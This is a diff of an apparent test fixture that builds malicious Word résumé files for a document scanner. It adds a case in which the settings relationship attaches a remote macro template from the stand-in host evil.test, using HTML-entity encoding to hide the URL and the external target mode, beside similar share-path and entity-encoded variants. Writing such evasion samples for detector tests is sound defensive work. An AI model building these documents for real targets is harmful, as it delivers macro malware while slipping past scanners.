@@ -155,6 +155,16 @@ export async function polyglots(): Promise<Polyglot[]> {
     ['a template from a share', 'cv.docx', word([settings('file://evil.test/t.dotm')])],
     ['a template behind references', 'cv.docx', word([settings('&#104;ttp&#58;//evil.test/t.dotm')])],
     [
+      'a template that hides that it is elsewhere',
+      'cv.docx',
+      word([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          data: relationship('attachedTemplate', '&#104;ttp://evil.test/t.dotm').replace('"Ext', '"&#69;xt'),
+        },
+      ]),
+    ],
+    [
       'a template behind an entity',
       'cv.docx',
       word([
